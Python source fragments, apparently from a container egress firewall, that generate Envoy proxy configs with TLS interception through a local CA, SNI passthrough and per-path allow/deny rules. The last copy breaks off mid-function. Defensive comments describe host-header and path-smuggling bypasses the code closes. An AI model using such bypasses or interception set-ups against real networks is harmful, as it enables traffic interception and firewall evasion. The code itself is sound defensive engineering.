    from ..controlplane import manager
    from .runtime import kernel_available

    if kernel_available() or cfg.settings.control_plane.enable:
        if manager.health(cfg) is None:
            manager.ensure_running(cfg)
        return manager.admin_client(cfg, ensure_material=True).call(method, payload)
    handler = _local(cfg, driver)
    verb = {
        "FirewallInit": handler.init, "FirewallEnable": handler.enable,
        "FirewallDisable": handler.disable, "FirewallBypass": handler.bypass,
        "FirewallAddRules": handler.add_rules,
        "FirewallRemoveRule": handler.remove_rule,
        "FirewallListRules": handler.list_rules,
        "FirewallReload": handler.reload, "FirewallStatus": handler.status,
        "FirewallRotateCA": handler.rotate_ca,
        "FirewallSyncRoutes": handler.sync_routes,
        "FirewallResolveHostname": handler.resolve_hostname,
        "FirewallRemove": handler.remove,
    }[method]
    return verb(payload)


def firewall_pre_start(cfg: Config, driver: RuntimeDriver, container_ref: str) -> None:
    res = call_firewall(cfg, driver, "FirewallInit", {})
    log.info("firewall init: %s", res)


def firewall_post_start(cfg: Config, driver: RuntimeDriver, container_ref: str) -> None:
    res = call_firewall(cfg, driver, "FirewallEnable", {"container_id": container_ref})
    log.info("firewall enable %s: %s", container_ref, res)
