"""Firewall bring-up hooks for the container run path.

Parity reference: container_start.go firewall init/enable calls into the CP
AdminService (FirewallInit handler.go:300, Enable :538).  Filled in with the
full stack in the firewall milestone; until then enabling the firewall
degrades loudly, never silently.
"""

from __future__ import annotations

from .. import logsetup
from ..config import Config
from ..engine.drivers import RuntimeDriver

log = logsetup.get("firewall.lifecycle")


def firewall_pre_start(cfg: Config, driver: RuntimeDriver, container_ref: str) -> None:
    from .stack import FirewallStack

    stack = FirewallStack(driver.engine(), cfg)
    stack.ensure_running()
    stack.sync_rules(cfg.egress_rules())


def firewall_post_start(cfg: Config, driver: RuntimeDriver, container_ref: str) -> None:
    from .enroll import enroll_container

    enroll_container(cfg, driver, container_ref)
