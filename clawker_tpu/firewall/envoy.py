"""Deterministic Envoy bootstrap generation for the egress proxy.

The kernel rewrites allowed flows to Envoy listeners; this module turns
the egress rule set into the matching proxy config:

- TLS listener (:10000): TLS-inspector sniffs SNI.  Domains with path
  rules get a MITM filter chain (terminate TLS with the per-domain cert
  our CA signed, HTTP connection manager allowing only the ruled path
  prefixes, re-encrypt upstream); plain domain allowances get an SNI
  passthrough tcp_proxy chain.  No chain matches -> connection refused
  (default deny).
- HTTP rules share the sequential listener pool: a plain-HTTP listener
  with Host-header routing per domain (the reference detects HTTP on
  a dedicated lane too -- e2e firewall_test.go:709).
- tcp rules get one sequential tcp_proxy listener each (:10001+); the
  allocation is returned so policy.build_routes programs the kernel
  with the same ports.

Everything is emitted in sorted order so the same rule set always
yields byte-identical YAML -- config drift is detected by hash.

Parity reference: controlplane/firewall/envoy_config.go
GenerateEnvoyConfig (+ envoy_{tls,tcp,http,upstream}.go): TLS listener
:10000 w/ TLS Inspector, MITM chains for path rules, SNI passthrough,
sequential TCP listeners, gRPC ALS.  Re-designed: listener allocation is
returned as data for the kernel route sync, and access logs go to stdout
JSON (scraped by the monitor pipeline) instead of a gRPC ALS service.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import yaml

from .. import consts
from ..config.schema import EgressRule


@dataclass
class EnvoyBundle:
    """Rendered proxy config + the listener allocation the kernel needs."""

    config_yaml: str
    tcp_ports: dict[str, int] = field(default_factory=dict)  # rule.key() -> port
    mitm_domains: list[str] = field(default_factory=list)    # need CA-signed certs
    gitguard_domains: list[str] = field(default_factory=list)
    #                               MITM'd hosts routed via the gitguard
    #                               pipe cluster (docs/git-policy.md)


def _cluster_name(domain: str, port: int, *, tls: bool) -> str:
    # tls mode is part of the key: an exact MITM rule (re-encrypt upstream)
    # and a passthrough rule sharing an apex must not collide on one cluster.
    mode = "tls" if tls else "plain"
    return f"up_{domain.replace('.', '_').replace('*', 'w')}_{port}_{mode}"


def _cluster(domain: str, port: int, *, tls: bool) -> dict:
    """Exact-host upstream: LOGICAL_DNS pinned to the rule's host."""
    name = _cluster_name(domain, port, tls=tls)
    c = {
        "name": name,
        "type": "LOGICAL_DNS",
        "dns_lookup_family": "V4_ONLY",
        "connect_timeout": "10s",
        "load_assignment": {
            "cluster_name": name,
            "endpoints": [{
                "lb_endpoints": [{
                    "endpoint": {
                        "address": {
                            "socket_address": {"address": domain, "port_value": port}
                        }
                    }
                }]
            }],
        },
    }
    if tls:
        c["transport_socket"] = {
            "name": "envoy.transport_sockets.tls",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.UpstreamTlsContext",
                "sni": domain,
            },
        }
    return c


# Dynamic-forward-proxy upstreams for wildcard rules: the destination host is
# whatever subdomain the client named (SNI for passthrough, Host/:authority
# for MITM/HTTP), so it cannot be pinned at config time.  Parity:
# envoy_config.go:269-297 (httpsWildcardUpstreamLayer / httpWildcardUpstream
# use DFP; exact rules keep pinned clusters).
# The gitguard lane (docs/git-policy.md): MITM chains for git hosts
# route allowed paths to the run's gitguard proxy over its hardened
# unix socket instead of the real upstream.  The vhost strips any
# client-supplied identity header and pins the mTLS-verified peer
# subject -- the guard trusts the header precisely because only Envoy
# can reach the 0600 socket.
GITGUARD_CLUSTER = "gitguard"
GITGUARD_IDENTITY_HEADER = "X-Clawker-Identity"


def _gitguard_cluster(socket_path: str) -> dict:
    return {
        "name": GITGUARD_CLUSTER,
        "type": "STATIC",
        "connect_timeout": "5s",
        "load_assignment": {
            "cluster_name": GITGUARD_CLUSTER,
            "endpoints": [{
                "lb_endpoints": [{
                    "endpoint": {
                        "address": {"pipe": {"path": socket_path}}
                    }
                }]
            }],
        },
    }


def _pin_gitguard_identity(chain: dict) -> dict:
    """Strip client identity headers and stamp the verified peer subject
    on every vhost of a gitguard-routed MITM chain."""
    for f in chain.get("filters", []):
        rc = (f.get("typed_config") or {}).get("route_config")
        for vh in (rc or {}).get("virtual_hosts", []):
            vh["request_headers_to_remove"] = [GITGUARD_IDENTITY_HEADER]
            vh["request_headers_to_add"] = [{
                "header": {
                    "key": GITGUARD_IDENTITY_HEADER,
                    "value": "%DOWNSTREAM_PEER_SUBJECT%",
                },
                "append": False,
            }]
    return chain


DFP_CACHE_PLAIN = "dfp_cache_plain"
DFP_CACHE_TLS = "dfp_cache_tls"
DFP_CLUSTER_PLAIN = "dfp_plain"
DFP_CLUSTER_TLS = "dfp_tls"


def _dfp_cache(name: str) -> dict:
    return {"name": name, "dns_lookup_family": "V4_ONLY"}


def _dfp_cluster(name: str, cache: str, *, tls: bool) -> dict:
    c = {
        "name": name,
        "lb_policy": "CLUSTER_PROVIDED",
        "connect_timeout": "10s",
        "cluster_type": {
            "name": "envoy.clusters.dynamic_forward_proxy",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.clusters.dynamic_forward_proxy.v3.ClusterConfig",
                "dns_cache_config": _dfp_cache(cache),
            },
        },
    }
    if tls:
        # auto_sni/auto_san_validation: SNI + cert check follow the request
        # authority, since there is no single configurable hostname.
        c["typed_extension_protocol_options"] = {
            "envoy.extensions.upstreams.http.v3.HttpProtocolOptions": {
                "@type": "type.googleapis.com/envoy.extensions.upstreams.http.v3.HttpProtocolOptions",
                "upstream_http_protocol_options": {
                    "auto_sni": True,
                    "auto_san_validation": True,
                },
                "explicit_http_config": {"http_protocol_options": {}},
            }
        }
        c["transport_socket"] = {
            "name": "envoy.transport_sockets.tls",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.UpstreamTlsContext"
            },
        }
    return c


def _dfp_http_filter(cache: str) -> dict:
    return {
        "name": "envoy.filters.http.dynamic_forward_proxy",
        "typed_config": {
            "@type": "type.googleapis.com/envoy.extensions.filters.http.dynamic_forward_proxy.v3.FilterConfig",
            "dns_cache_config": _dfp_cache(cache),
        },
    }


def _access_log() -> list[dict]:
    """JSON access log on stdout; the monitor pipeline ships container
    stdout to the clawker-envoy index."""
    return [{
        "name": "envoy.access_loggers.stdout",
        "typed_config": {
            "@type": "type.googleapis.com/envoy.extensions.access_loggers.stream.v3.StdoutAccessLog",
            "log_format": {
                "json_format": {
                    "ts": "%START_TIME%",
                    "sni": "%REQUESTED_SERVER_NAME%",
                    "authority": "%REQ(:AUTHORITY)%",
                    "path": "%REQ(:PATH)%",
                    "method": "%REQ(:METHOD)%",
                    "code": "%RESPONSE_CODE%",
                    "flags": "%RESPONSE_FLAGS%",
                    "bytes_tx": "%BYTES_SENT%",
                    "upstream": "%UPSTREAM_HOST%",
                }
            },
        },
    }]


def _sni_names(domain: str) -> list[str]:
    """filter_chain_match server_names for a rule dst."""
    if domain.startswith("*."):
        return [domain, domain[2:]]  # wildcard matches apex too (zone semantics)
    return [domain]


# Centralized non-fingerprinting deny body: the verdict travels via the
# access-log metadata, never the body, and the body must not disclose the
# enforcement product (reference: envoy_config.go firewallBlockedBody;
# pinned by e2e firewall_test.go:930-933).
FIREWALL_BLOCKED_BODY = "403 Forbidden\n"


def _hcm_hardening() -> dict:
    """Edge-hardening fields every HTTP connection manager carries.

    normalize_path + merge_slashes + UNESCAPE_AND_REDIRECT close the
    URL-encoded-traversal path-smuggling vector (reference:
    envoy_http.go:411 httpConnectionManagerHardening; pinned by e2e
    firewall_test.go:1131 PathRuleNormalizationDefeatsSmuggling)."""
    return {
        "normalize_path": True,
        "merge_slashes": True,
        "path_with_escaped_slashes_action": "UNESCAPE_AND_REDIRECT",
        "common_http_protocol_options": {
            "headers_with_underscores_action": "REJECT_REQUEST",
        },
    }


def _action_metadata(action: str) -> dict:
    """Per-route metadata the access log reads so each record carries the
    concrete verdict (reference: envoy_http.go clawkerActionMetadata)."""
    return {"filter_metadata": {"fw": {"action": action}}}


def _deny_route(match: dict) -> dict:
    return {
        "match": match,
        "metadata": _action_metadata("denied"),
        "direct_response": {
            "status": 403,
            "body": {"inline_string": FIREWALL_BLOCKED_BODY},
        },
    }


def _route_match(pr) -> dict:
    match: dict = {"prefix": pr.path}
    if pr.methods:
        if len(pr.methods) == 1:
            sm = {"exact": pr.methods[0]}
        else:
            sm = {"safe_regex": {"regex": "|".join(pr.methods)}}
        match["headers"] = [{"name": ":method", "string_match": sm}]
    return match


def _path_routes(rule: EgressRule, cluster: str) -> list[dict]:
    """Ordered route list from path_rules + path_default (allow -> cluster,
    deny -> direct_response 403), ending in the catch-all default."""
    routes = []
    for pr in rule.effective_path_rules():
        if pr.action == "deny":
            routes.append(_deny_route(_route_match(pr)))
        else:
            routes.append({
                "match": _route_match(pr),
                "metadata": _action_metadata("allowed"),
                "route": {"cluster": cluster, "timeout": "0s"},
            })
    default = {"prefix": "/"}
    if rule.effective_path_default() == "deny":
        routes.append(_deny_route(default))
    else:
        routes.append({
            "match": default,
            "metadata": _action_metadata("allowed"),
            "route": {"cluster": cluster, "timeout": "0s"},
        })
    return routes


def _mitm_chain(rule: EgressRule, cert_dir: str,
                cluster_override: str = "") -> dict:
    wildcard = rule.dst.startswith("*.")
    apex = rule.dst[2:] if wildcard else rule.dst
    # Wildcard: upstream host is the request authority (any subdomain), so
    # route through the TLS dynamic-forward-proxy cluster; exact: pinned.
    # A cluster_override (the gitguard pipe cluster) wins over both:
    # allowed paths land on the guard's unix socket, not the real host.
    cluster = cluster_override or (
        DFP_CLUSTER_TLS
        if wildcard
        else _cluster_name(apex, rule.effective_port(), tls=True)
    )
    routes = _path_routes(rule, cluster)
    http_filters = []
    if wildcard and not cluster_override:
        http_filters.append(_dfp_http_filter(DFP_CACHE_TLS))
    http_filters.append({
        "name": "envoy.filters.http.router",
        "typed_config": {
            "@type": "type.googleapis.com/envoy.extensions.filters.http.router.v3.Router"
        },
    })
    return {
        "filter_chain_match": {"server_names": _sni_names(rule.dst)},
        "transport_socket": {
            "name": "envoy.transport_sockets.tls",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.DownstreamTlsContext",
                "common_tls_context": {
                    "tls_certificates": [{
                        "certificate_chain": {"filename": f"{cert_dir}/{apex}.crt"},
                        "private_key": {"filename": f"{cert_dir}/{apex}.key"},
                    }]
                },
            },
        },
        "filters": [{
            "name": "envoy.filters.network.http_connection_manager",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager",
                "stat_prefix": f"mitm_{apex.replace('.', '_')}",
                "access_log": _access_log(),
                "http_filters": http_filters,
                **_hcm_hardening(),
                "route_config": {
                    "name": f"paths_{apex.replace('.', '_')}",
                    "virtual_hosts": [{
                        "name": apex,
                        # scoped to the rule's zone, NEVER "*": on a
                        # wildcard chain the DFP cluster resolves the
                        # request :authority, so a catch-all vhost would
                        # let Host: attacker.example smuggle through an
                        # allowed-SNI handshake to arbitrary upstreams
                        # (found by the sni-host-mismatch red-team probe)
                        "domains": sorted(
                            [apex, f"{apex}:*"]
                            + ([f"*.{apex}", f"*.{apex}:*"]
                               if wildcard else [])),
                        "routes": routes,
                        # path_default decides the catch-all: 403 or forward
                    }],
                },
            },
        }],
    }


def _passthrough_chain(rule: EgressRule) -> dict:
    wildcard = rule.dst.startswith("*.")
    apex = rule.dst[2:] if wildcard else rule.dst
    filters = []
    if wildcard:
        # SNI-derived upstream: the client named some subdomain; forward the
        # bytes to that host, not the apex (sni_dynamic_forward_proxy sets
        # the upstream from the sniffed SNI).
        filters.append({
            "name": "envoy.filters.network.sni_dynamic_forward_proxy",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.filters.network.sni_dynamic_forward_proxy.v3.FilterConfig",
                "port_value": rule.effective_port(),
                "dns_cache_config": _dfp_cache(DFP_CACHE_PLAIN),
            },
        })
        cluster = DFP_CLUSTER_PLAIN
    else:
        cluster = _cluster_name(apex, rule.effective_port(), tls=False)
    filters.append({
        "name": "envoy.filters.network.tcp_proxy",
        "typed_config": {
            "@type": "type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy",
            "stat_prefix": f"sni_{apex.replace('.', '_')}",
            "cluster": cluster,
            "access_log": _access_log(),
        },
    })
    return {
        "filter_chain_match": {"server_names": _sni_names(rule.dst)},
        "filters": filters,
    }


def _tcp_listener(rule: EgressRule, port: int) -> dict:
    apex = rule.dst[2:] if rule.dst.startswith("*.") else rule.dst
    return {
        "name": f"tcp_{port}",
        "address": {"socket_address": {"address": "0.0.0.0", "port_value": port}},
        "filter_chains": [{
            "filters": [{
                "name": "envoy.filters.network.tcp_proxy",
                "typed_config": {
                    "@type": "type.googleapis.com/envoy.extensions.filters.network.tcp_proxy.v3.TcpProxy",
                    "stat_prefix": f"tcp_{apex.replace('.', '_')}_{rule.effective_port()}",
                    "cluster": _cluster_name(apex, rule.effective_port(), tls=False),
                    "access_log": _access_log(),
                },
            }]
        }],
    }


def _http_listener(rules: list[EgressRule], port: int) -> dict:
    """One plain-HTTP listener; Host-header routing across all http rules.

    Wildcard rules route to the plaintext dynamic-forward-proxy cluster
    (upstream = whatever in-zone subdomain the Host header names); exact
    rules keep their pinned clusters.
    """
    vhosts = []
    any_wildcard = False
    # exact rules own the bare apex: a coexisting wildcard vhost also
    # claiming it is (a) an Envoy NACK ("only unique values for domains")
    # and (b) a path-policy bypass via Host routing
    exact_http = {r.dst for r in rules if not r.dst.startswith("*.")}
    # several rules for ONE dst at different ports share the listener;
    # every vhost domain must stay unique (Envoy NACK otherwise), so
    # multi-port groups get port-qualified domains -- Host carries the
    # original port ("example.com:8080") -- and only the lowest-port rule
    # claims the bare names
    by_dst: dict[str, int] = {}
    for r in rules:
        by_dst[r.dst] = by_dst.get(r.dst, 0) + 1
    primary_port: dict[str, int] = {}
    for r in sorted(rules, key=lambda r: r.effective_port()):
        primary_port.setdefault(r.dst, r.effective_port())
    for rule in rules:
        wildcard = rule.dst.startswith("*.")
        apex = rule.dst[2:] if wildcard else rule.dst
        rport = rule.effective_port()
        multi = by_dst[rule.dst] > 1
        primary = not multi or primary_port[rule.dst] == rport
        if multi:
            domains = [f"{apex}:{rport}"] + ([apex] if primary else [])
            wild_domains = [f"*.{apex}:{rport}"] + ([f"*.{apex}"] if primary else [])
        else:
            domains = [apex, f"{apex}:*"]
            wild_domains = [f"*.{apex}", f"*.{apex}:*"]
        if wildcard:
            any_wildcard = True
            domains = (wild_domains if apex in exact_http
                       else domains + wild_domains)
            cluster = DFP_CLUSTER_PLAIN
        else:
            cluster = _cluster_name(apex, rport, tls=False)
        vhosts.append({
            "name": f"http_{apex.replace('.', '_')}_{rport}",
            "domains": sorted(domains),
            "routes": _path_routes(rule, cluster),
        })
    http_filters = []
    if any_wildcard:
        http_filters.append(_dfp_http_filter(DFP_CACHE_PLAIN))
    http_filters.append({
        "name": "envoy.filters.http.router",
        "typed_config": {
            "@type": "type.googleapis.com/envoy.extensions.filters.http.router.v3.Router"
        },
    })
    return {
        "name": f"http_{port}",
        "address": {"socket_address": {"address": "0.0.0.0", "port_value": port}},
        "filter_chains": [{
            "filters": [{
                "name": "envoy.filters.network.http_connection_manager",
                "typed_config": {
                    "@type": "type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager",
                    "stat_prefix": "http_egress",
                    "access_log": _access_log(),
                    "http_filters": http_filters,
                    **_hcm_hardening(),
                    "route_config": {
                        "name": "http_egress",
                        "virtual_hosts": vhosts,
                        # no catch-all vhost: unlisted Host -> 404, logged
                    },
                },
            }]
        }],
    }


def generate_envoy_config(
    rules: list[EgressRule],
    *,
    cert_dir: str = "/etc/clawker/certs",
    tls_port: int = consts.ENVOY_TLS_PORT,
    tcp_port_base: int = consts.ENVOY_TCP_PORT_BASE,
    admin_port: int = consts.ENVOY_HEALTH_PORT,
    gitguard_hosts: tuple[str, ...] = (),
    gitguard_socket: str = "",
) -> EnvoyBundle:
    """Rule set -> (bootstrap YAML, sequential-listener allocation).

    ``gitguard_hosts`` + ``gitguard_socket`` (both required together)
    reroute those hosts' MITM chains to the gitguard proxy's unix
    socket: the allowed smart-HTTP paths land on the guard, which
    filters advertisements and judges pushes before anything reaches
    the real upstream (docs/git-policy.md)."""
    ordered = sorted(
        {r.key(): r for r in rules}.values(), key=lambda r: r.key()
    )
    # Apexes that also carry an exact https rule: the exact chain owns the
    # bare-apex SNI, so a coexisting wildcard chain must not claim it
    # (firewall_test.go:1326 WildcardAndExactCoexist -- independent filter
    # chains, no SNI collision).  Keyed on dst only: SNI carries no port
    # signal, and duplicate server_names across chains are an Envoy NACK
    # (= full egress outage on the next reload), which outranks steering
    # the apex of an odd-port exact rule.
    exact_https = {r.dst for r in ordered
                   if r.proto == "https" and not r.dst.startswith("*.")
                   and r.action != "deny"}

    def cede_apex_to_exact(chain: dict, rule: EgressRule) -> dict:
        apex_ = rule.dst[2:] if rule.dst.startswith("*.") else rule.dst
        if rule.dst.startswith("*.") and apex_ in exact_https:
            chain["filter_chain_match"]["server_names"] = [
                n for n in chain["filter_chain_match"]["server_names"]
                if n != apex_]
            # the HCM vhost must cede the apex too: with only the SNI
            # ceded, Host: apex through a subdomain handshake would still
            # route via the wildcard rule's (laxer) path policy,
            # bypassing the exact rule's restrictions
            for f in chain.get("filters", []):
                rc = (f.get("typed_config") or {}).get("route_config")
                for vh in (rc or {}).get("virtual_hosts", []):
                    vh["domains"] = [
                        d for d in vh["domains"]
                        if d not in (apex_, f"{apex_}:*")]
        return chain
    tls_chains: list[dict] = []
    clusters: dict[str, dict] = {}
    tcp_listeners: list[dict] = []
    tcp_ports: dict[str, int] = {}
    http_rules: list[EgressRule] = []
    mitm_domains: list[str] = []
    gitguard_domains: list[str] = []
    next_port = tcp_port_base

    for rule in ordered:
        wildcard = rule.dst.startswith("*.")
        apex = rule.dst[2:] if wildcard else rule.dst
        if not apex:
            continue
        if rule.action == "deny":
            # Domain-level deny never gets a proxy lane: the DNS gate
            # NXDOMAINs the zone and the kernel route table carries DENY
            # (firewall_test.go:653 DenySubdomainUnderWildcard).
            continue
        port = rule.effective_port()
        guarded = bool(gitguard_socket) and apex in set(gitguard_hosts)
        if rule.proto == "https":
            if rule.needs_inspection():
                if guarded:
                    tls_chains.append(cede_apex_to_exact(
                        _pin_gitguard_identity(_mitm_chain(
                            rule, cert_dir,
                            cluster_override=GITGUARD_CLUSTER)), rule))
                    gitguard_domains.append(apex)
                    clusters.setdefault(GITGUARD_CLUSTER,
                                        _gitguard_cluster(gitguard_socket))
                else:
                    tls_chains.append(cede_apex_to_exact(
                        _mitm_chain(rule, cert_dir), rule))
                mitm_domains.append(apex)
                if wildcard and not guarded:
                    clusters.setdefault(
                        DFP_CLUSTER_TLS,
                        _dfp_cluster(DFP_CLUSTER_TLS, DFP_CACHE_TLS, tls=True))
                elif not guarded:
                    clusters.setdefault(_cluster_name(apex, port, tls=True),
                                        _cluster(apex, port, tls=True))
            else:
                tls_chains.append(cede_apex_to_exact(
                    _passthrough_chain(rule), rule))
                if wildcard:
                    clusters.setdefault(
                        DFP_CLUSTER_PLAIN,
                        _dfp_cluster(DFP_CLUSTER_PLAIN, DFP_CACHE_PLAIN, tls=False))
                else:
                    clusters.setdefault(_cluster_name(apex, port, tls=False),
                                        _cluster(apex, port, tls=False))
        elif rule.proto == "http":
            http_rules.append(rule)
            if wildcard:
                clusters.setdefault(
                    DFP_CLUSTER_PLAIN,
                    _dfp_cluster(DFP_CLUSTER_PLAIN, DFP_CACHE_PLAIN, tls=False))
            else:
                clusters.setdefault(_cluster_name(apex, port, tls=False),
                                    _cluster(apex, port, tls=False))
        elif rule.proto != "udp":
            # Opaque TCP-mapped protocols (tcp, ssh, git, ...): a named
            # proto is a labelled TCP lane, same as the reference's ssh
            # rule riding the sequential listener (firewall_test.go:503).
            if wildcard:
                # Opaque TCP carries no L7 signal (no SNI/Host) to derive the
                # in-zone subdomain from, so no proxy lane is allocated: the
                # kernel direct-allows the flow, still DNS-gated by the
                # dns_cache zone match (same model as udp allows).
                continue
            tcp_listeners.append(_tcp_listener(rule, next_port))
            tcp_ports[rule.key()] = next_port
            clusters.setdefault(_cluster_name(apex, port, tls=False),
                                _cluster(apex, port, tls=False))
            next_port += 1
        # udp rules never reach Envoy (kernel allows them directly)

    # Residual SNI collisions (e.g. two https rules for the same dst at
    # different ports): a server_name may appear in exactly ONE chain or
    # Envoy NACKs the bootstrap -- a full egress outage on the next rule
    # sync.  First chain in sorted rule-key order keeps the name; a chain
    # left with no names is dropped.
    seen_names: set[str] = set()
    deduped: list[dict] = []
    for chain in tls_chains:
        names = [n for n in chain["filter_chain_match"]["server_names"]
                 if n not in seen_names]
        if not names:
            continue
        seen_names.update(names)
        chain["filter_chain_match"]["server_names"] = names
        deduped.append(chain)
    tls_chains = deduped

    listeners = [{
        "name": "tls_egress",
        "address": {"socket_address": {"address": "0.0.0.0", "port_value": tls_port}},
        "listener_filters": [{
            "name": "envoy.filters.listener.tls_inspector",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.filters.listener.tls_inspector.v3.TlsInspector"
            },
        }],
        "filter_chains": tls_chains,
        # no default chain: unmatched SNI is refused (default deny)
    }]
    if http_rules:
        http_port = next_port
        listeners.append(_http_listener(http_rules, http_port))
        for rule in http_rules:
            tcp_ports[rule.key()] = http_port
        next_port += 1
    listeners.extend(tcp_listeners)

    bootstrap = {
        "admin": {
            "address": {
                "socket_address": {"address": "0.0.0.0", "port_value": admin_port}
            }
        },
        "static_resources": {
            "listeners": listeners,
            "clusters": [clusters[k] for k in sorted(clusters)],
        },
    }
    return EnvoyBundle(
        config_yaml=yaml.safe_dump(bootstrap, sort_keys=True),
        tcp_ports=tcp_ports,
        mitm_domains=sorted(set(mitm_domains)),
        gitguard_domains=sorted(set(gitguard_domains)),
    )


# ----------------------------------------------------------------- validate

def validate_bundle(bundle: EnvoyBundle) -> list[str]:
    """Structural validation of a generated bootstrap; [] when clean.

    The real Envoy NACKs an invalid bootstrap -- which, on a reload,
    means a full egress outage.  This is the pre-swap gate (reference
    envoy_validate.go): a rule mutation producing an invalid config must
    fail the RPC and leave the old data plane running.
    """
    errs: list[str] = []
    try:
        cfg = yaml.safe_load(bundle.config_yaml)
    except yaml.YAMLError as e:
        return [f"bootstrap does not parse: {e}"]
    res = (cfg or {}).get("static_resources") or {}
    clusters = {c.get("name") for c in res.get("clusters") or []}
    listeners = res.get("listeners") or []

    ports: set[int] = set()
    seen_sni: set[str] = set()
    for listener in listeners:
        port = (listener.get("address", {}).get("socket_address", {})
                .get("port_value"))
        if port in ports:
            errs.append(f"duplicate listener port {port}")
        ports.add(port)
        for chain in listener.get("filter_chains") or []:
            for name in (chain.get("filter_chain_match", {})
                         .get("server_names") or []):
                if name in seen_sni:
                    errs.append(f"duplicate SNI {name!r} across chains "
                                "(Envoy NACK)")
                seen_sni.add(name)
            for f in chain.get("filters") or []:
                tc = f.get("typed_config") or {}
                cluster = tc.get("cluster")
                if cluster and cluster not in clusters:
                    errs.append(
                        f"filter references unknown cluster {cluster!r}")
                rc = tc.get("route_config") or {}
                seen_domains: set[str] = set()
                for vh in rc.get("virtual_hosts") or []:
                    if not vh.get("domains"):
                        errs.append(f"virtual host {vh.get('name')!r} "
                                    "matches no domains")
                    for d in vh.get("domains") or []:
                        if d in seen_domains:
                            errs.append(
                                f"duplicate vhost domain {d!r} in "
                                f"{rc.get('name')!r} (Envoy NACK: only "
                                "unique domain values are permitted)")
                        seen_domains.add(d)
                    for route in vh.get("routes") or []:
                        dst = (route.get("route") or {}).get("cluster")
                        if dst and dst not in clusters:
                            errs.append(
                                f"route references unknown cluster {dst!r}")
                        if "route" not in route and \
                                "direct_response" not in route:
                            errs.append("route with neither cluster nor "
                                        "direct_response")
    # every kernel-advertised TCP lane must have a listener behind it
    for key, port in bundle.tcp_ports.items():
        if port not in ports:
            errs.append(f"rule {key}: kernel lane port {port} has no "
                        "listener (kernel would redirect into a refused "
                        "connect)")
    return errs
