"""Deterministic Envoy bootstrap generation for the egress proxy.

The kernel rewrites allowed flows to Envoy listeners; this module turns
the egress rule set into the matching proxy config:

- TLS listener (:10000): TLS-inspector sniffs SNI.  Domains with path
  rules get a MITM filter chain (terminate TLS with the per-domain cert
  our CA signed, HTTP connection manager allowing only the ruled path
  prefixes, re-encrypt upstream); plain domain allowances get an SNI
  passthrough tcp_proxy chain.  No chain matches -> connection refused
  (default deny).
- HTTP rules share the sequential listener pool: a plain-HTTP listener
  with Host-header routing per domain (the reference detects HTTP on
  a dedicated lane too -- e2e firewall_test.go:709).
- tcp rules get one sequential tcp_proxy listener each (:10001+); the
  allocation is returned so policy.build_routes programs the kernel
  with the same ports.

Everything is emitted in sorted order so the same rule set always
yields byte-identical YAML -- config drift is detected by hash.

Parity reference: controlplane/firewall/envoy_config.go
GenerateEnvoyConfig (+ envoy_{tls,tcp,http,upstream}.go): TLS listener
:10000 w/ TLS Inspector, MITM chains for path rules, SNI passthrough,
sequential TCP listeners, gRPC ALS.  Re-designed: listener allocation is
returned as data for the kernel route sync, and access logs go to stdout
JSON (scraped by the monitor pipeline) instead of a gRPC ALS service.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import yaml

from .. import consts
from ..config.schema import EgressRule


@dataclass
class EnvoyBundle:
    """Rendered proxy config + the listener allocation the kernel needs."""

    config_yaml: str
    tcp_ports: dict[str, int] = field(default_factory=dict)  # rule.key() -> port
    mitm_domains: list[str] = field(default_factory=list)    # need CA-signed certs


def _cluster_name(domain: str, port: int) -> str:
    return f"up_{domain.replace('.', '_').replace('*', 'w')}_{port}"


def _cluster(domain: str, port: int, *, tls: bool) -> dict:
    c = {
        "name": _cluster_name(domain, port),
        "type": "LOGICAL_DNS",
        "dns_lookup_family": "V4_ONLY",
        "connect_timeout": "10s",
        "load_assignment": {
            "cluster_name": _cluster_name(domain, port),
            "endpoints": [{
                "lb_endpoints": [{
                    "endpoint": {
                        "address": {
                            "socket_address": {"address": domain, "port_value": port}
                        }
                    }
                }]
            }],
        },
    }
    if tls:
        c["transport_socket"] = {
            "name": "envoy.transport_sockets.tls",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.UpstreamTlsContext",
                "sni": domain,
            },
        }
    return c


def _access_log() -> list[dict]:
    """JSON access log on stdout; the monitor pipeline ships container
    stdout to the clawker-envoy index."""
    return [{
        "name": "envoy.access_loggers.stdout",
        "typed_config": {
            "@type": "type.googleapis.com/envoy.extensions.access_loggers.stream.v3.StdoutAccessLog",
            "log_format": {
                "json_format": {
                    "ts": "%START_TIME%",
                    "sni": "%REQUESTED_SERVER_NAME%",
                    "authority": "%REQ(:AUTHORITY)%",
                    "path": "%REQ(:PATH)%",
                    "method": "%REQ(:METHOD)%",
                    "code": "%RESPONSE_CODE%",
                    "flags": "%RESPONSE_FLAGS%",
                    "bytes_tx": "%BYTES_SENT%",
                    "upstream": "%UPSTREAM_HOST%",
                }
            },
        },
    }]


def _sni_names(domain: str) -> list[str]:
    """filter_chain_match server_names for a rule dst."""
    if domain.startswith("*."):
        return [domain, domain[2:]]  # wildcard matches apex too (zone semantics)
    return [domain]


def _mitm_chain(rule: EgressRule, cert_dir: str) -> dict:
    apex = rule.dst[2:] if rule.dst.startswith("*.") else rule.dst
    routes = [
        {
            "match": {"prefix": p},
            "route": {"cluster": _cluster_name(apex, rule.effective_port())},
        }
        for p in sorted(rule.paths)
    ]
    return {
        "filter_chain_match": {"server_names": _sni_names(rule.dst)},
        "transport_socket": {
            "name": "envoy.transport_sockets.tls",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.DownstreamTlsContext",
                "common_tls_context": {
                    "tls_certificates": [{
                        "certificate_chain": {"filename": f"{cert_dir}/{apex}.crt"},
                        "private_key": {"filename": f"{cert_dir}/{apex}.key"},
                    }]
                },
            },
        },
        "filters": [{
            "name": "envoy.filters.network.http_connection_manager",
            "typed_config": {
